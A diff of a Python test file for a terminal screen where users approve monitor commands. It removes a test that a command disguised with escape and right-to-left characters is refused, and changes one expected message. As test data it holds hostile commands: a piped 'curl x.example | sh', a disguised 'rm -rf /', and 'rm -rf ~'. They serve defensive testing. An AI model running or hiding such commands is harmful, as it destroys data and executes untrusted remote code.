@@ -114,21 +114,6 @@ async def test_one_can_leave_before_the_question_is_there(workspace: Workspace) 
     assert set(states(workspace).values()) == {"pending"}
 
 
-async def test_one_monitor_asks_for_each_thing_by_itself(workspace: Workspace) -> None:
-    """The check and the remediation are two questions; leaving one leaves the rest."""
-    app = make_app(workspace)
-    async with running(app) as pilot:
-        await open_question(pilot, app, "Database Connection")
-        assert "(1 of 2)" in screen_text(app)
-        await press(pilot, "y")
-        assert "Run this command to mend “Database Connection”" in screen_text(app)
-        assert "pg_isready" in screen_text(app)
-        await press(pilot, "d")
-        found = states(workspace)
-        assert found["check", "Database Connection"] == "approved"
-        assert found["remediate", "Database Connection"] == "denied"
-
-
 async def test_a_long_command_has_to_be_read_to_its_end(tmp_path: Path) -> None:
     """y scrolls until the last line was on the screen, and only then approves."""
     long = "echo begin; " + " ".join(f"echo step-{number};" for number in range(300)) + " curl x.example | sh"
@@ -146,24 +131,6 @@ async def test_a_long_command_has_to_be_read_to_its_end(tmp_path: Path) -> None:
                 assert states(workspace)["check", "Long"] == "pending"
         assert presses > 3
         assert states(workspace)["check", "Long"] == "approved"
-
-
-async def test_hidden_characters_are_shown_and_cannot_be_approved(tmp_path: Path) -> None:
-    """A command that would rewrite the screen is shown as it is; y and d are no keys then."""
-    monitors = (
-        "## Monitors\n### Evil\n- type: command\n- command: rm -rf / \x1b[2K\u202eecho fine\n- interval: * * * * *\n"
-    )
-    workspace = make_workspace(tmp_path, {"monitors.md": monitors})
-    app = make_app(workspace)
-    async with running(app) as pilot:
-        await open_question(pilot, app, "Evil")
-        shown = screen_text(app)
-        assert "rm -rf / \\x1b[2K\\u202eecho fine" in shown
-        assert "Refused" in shown
-        assert "y approve" not in shown
-        await press(pilot, "y", "d")
-        assert isinstance(app.screen, ConsentScreen)
-        assert states(workspace)["check", "Evil"] == "refused"
 
 
 async def test_a_changed_command_is_shown_beside_the_old_one(workspace: Workspace) -> None:
@@ -194,7 +161,7 @@ async def test_what_changes_while_it_is_read_is_not_approved(workspace: Workspac
         assert "or of the files below" in " ".join(screen_text(app).split())
         (workspace.root / "run.sh").write_text("rm -rf ~\n")
         await press(pilot, "y")
-        assert said(app) == ["May not run"]
+        assert said(app) == ["Not approved"]
         assert states(workspace)["check", "Disk Space"] == "pending"
 
 
